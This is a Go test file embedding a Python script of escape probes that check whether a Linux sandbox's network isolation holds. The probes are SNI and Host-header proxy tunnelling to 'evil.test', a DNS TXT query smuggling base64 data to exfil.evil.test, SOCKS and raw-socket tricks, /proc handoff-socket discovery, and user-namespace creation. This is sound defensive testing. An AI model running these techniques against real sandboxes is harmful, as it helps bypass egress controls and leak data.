//go:build linux

package domaintest

// AttackPy is run inside the sandbox (and, for controls, outside it) as
// `python3 attack.py NAME [ARGS]`; it prints OK: or BLOCKED: with detail
// and exits 0 either way, so the test reads the verdict, not the exit.
const AttackPy = `import socket, ssl, sys, time, os, struct

def out(ok, detail=""):
    print(("OK:" if ok else "BLOCKED:") + str(detail))
    sys.exit(0)

def connect_proxy():
    return socket.create_connection(("127.0.0.1", 3128), timeout=5)

def http_connect(auth):
    s = connect_proxy()
    s.sendall(b"CONNECT " + auth + b" HTTP/1.1\r\nHost: " + auth + b"\r\n\r\n")
    return s, s.recv(4096)

a = sys.argv[1]
try:
    if a == "sni":  # CONNECT to an allowed name, TLS naming another
        s, r = http_connect(b"pkg.test:443")
        if b" 200 " not in r: out(False, r[:40])
        ctx = ssl.create_default_context()
        t = ctx.wrap_socket(s, server_hostname="evil.test")
        t.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        out(b"hello" in t.recv(4096), "tls completed")
    elif a == "hosttunnel":  # CONNECT to an allowed name, then HTTP naming another host
        s, r = http_connect(b"pkg.test:80")
        if b" 200 " not in r: out(False, r[:40])
        s.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
        d = s.recv(4096)
        out(b"hello from evil.test" in d, d.split(b"\r\n")[0])
    elif a == "hostabs":  # an absolute-form request whose Host names another host
        s = connect_proxy()
        s.sendall(b"GET http://pkg.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
        d = s.recv(4096)
        out(b"hello from evil.test" in d, d.split(b"\r\n")[0])
    elif a == "connect":  # a raw CONNECT authority
        s, r = http_connect(sys.argv[2].encode())
        out(b" 200 " in r, r.split(b"\r\n")[0])
    elif a == "socks":  # a SOCKS5 domain request with raw bytes
        name = sys.argv[2].encode().decode("unicode_escape").encode("latin1")
        s = socket.create_connection(("127.0.0.1", 1080), timeout=5)
        s.sendall(b"\x05\x01\x00"); s.recv(2)
        s.sendall(b"\x05\x01\x00\x03" + bytes([len(name) % 256]) + name + struct.pack(">H", 80))
        r = s.recv(10)
        out(len(r) > 1 and r[1] == 0, r[:2])
    elif a == "tcp":  # a direct connect to an address and port
        s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=5)
        s.sendall(b"GET / HTTP/1.0\r\nHost: pkg.test\r\n\r\n")
        d = s.recv(100)
        out(len(d) > 0, d[:20])
    elif a == "udp":  # UDP (QUIC-like) straight out; must fail fast
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.connect((sys.argv[2], int(sys.argv[3])))
        t0 = time.time()
        for _ in range(3):
            s.send(b"\xc0quic-initial-token")
            time.sleep(0.05)
        try:
            s.recv(100)
            out(True, "answered")
        except ConnectionRefusedError:
            out(False, "refused after %.3fs" % (time.time() - t0))
        except socket.timeout:
            out(False, "timeout")
    elif a == "txt":  # a TXT lookup carrying data, to the stub and straight out
        q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
        for l in [b"c2VjcmV0", b"exfil", b"evil", b"test"]:
            q += bytes([len(l)]) + l
        q += b"\x00" + struct.pack(">HH", 16, 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
        s.sendto(q, (sys.argv[2], 53))
        try:
            r = s.recv(512)
            out(r[3] & 0x0f == 0 and struct.unpack(">H", r[6:8])[0] > 0, "rcode %d" % (r[3] & 0x0f))
        except ConnectionRefusedError:
            out(False, "refused")
        except socket.timeout:
            out(False, "timeout")
    elif a == "banner":  # a server-speaks-first protocol (SSH) by name, captured
        s = socket.create_connection((sys.argv[2], 22), timeout=5)
        f = s.makefile("rb")
        b = f.readline()
        s.sendall(b"SSH-2.0-client\r\n")
        out(b.startswith(b"SSH-2.0-") and f.readline() == b"SSH-2.0-client\r\n", b.strip())
    elif a == "ownserver":  # the sandbox's own server on a dev port, over its own loopback
        srv = socket.socket(); srv.bind(("127.0.0.1", 8080)); srv.listen(1)
        c = socket.create_connection(("localhost", 8080), timeout=5)
        conn, _ = srv.accept(); conn.sendall(b"own")
        out(c.recv(3) == b"own", "own server")
    elif a == "dnstcp":  # an A query over TCP to the stub
        q = struct.pack(">HHHHHH", 9, 0x0100, 1, 0, 0, 0)
        for l in sys.argv[2].encode().split(b"."):
            q += bytes([len(l)]) + l
        q += b"\x00" + struct.pack(">HH", 1, 1)
        s = socket.create_connection(("127.0.0.1", 53), timeout=5)
        s.sendall(struct.pack(">H", len(q)) + q)
        n = struct.unpack(">H", s.recv(2))[0]
        r = s.recv(n)
        out(struct.unpack(">H", r[6:8])[0] == 1, socket.inet_ntoa(r[-4:]))
    elif a == "vsock":
        s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        out(True, "vsock socket created")
    elif a == "raw":
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        out(True, "raw socket created")
    elif a == "packet":
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        out(True, "packet socket created")
    elif a == "handoff":  # anything that reaches the init's handoff socket
        found = []
        for pid in ["1", "self"]:
            try:
                for fd in os.listdir("/proc/%s/fd" % pid):
                    try:
                        if os.readlink("/proc/%s/fd/%s" % (pid, fd)).startswith("socket:"):
                            found.append(pid + "/" + fd)
                    except OSError:
                        pass
            except OSError:
                pass
        out(len(found) > 0, found)
    elif a == "relay":  # a relay inside the sandbox: its own connects are decided too
        srv = socket.socket(); srv.bind(("127.0.0.1", 7000)); srv.listen(1)
        c = socket.create_connection(("127.0.0.1", 7000), timeout=5)
        conn, _ = srv.accept()
        try:
            up = socket.create_connection((sys.argv[2], 80), timeout=5)
            up.sendall(b"GET / HTTP/1.0\r\nHost: " + sys.argv[2].encode() + b"\r\n\r\n")
            d = up.recv(100)
            out(len(d) > 0, d[:20])
        except OSError as e:
            out(False, e)
    elif a == "netadmin":  # change lo's flags (as a route change would need CAP_NET_ADMIN)
        import fcntl
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        req = struct.pack("16sH14x", b"lo", 0)
        flags = struct.unpack("16sH14x", fcntl.ioctl(s, 0x8913, req))[1]  # SIOCGIFFLAGS
        fcntl.ioctl(s, 0x8914, struct.pack("16sH14x", b"lo", flags))  # SIOCSIFFLAGS, unchanged
        out(True, "lo flags set")
    elif a == "lowport":  # a listener below 1024 (CAP_NET_BIND_SERVICE), on a port capture leaves free
        srv = socket.socket(); srv.bind(("127.0.0.1", 81)); srv.listen(1)
        out(True, "bound port 81")
    elif a == "userns":  # a new user namespace (full capabilities inside it)
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(0x10000000) != 0:  # CLONE_NEWUSER
            out(False, os.strerror(ctypes.get_errno()))
        out(True, "new user namespace")
    else:
        print("unknown attack"); sys.exit(2)
except OSError as e:
    out(False, "%s" % e)
`
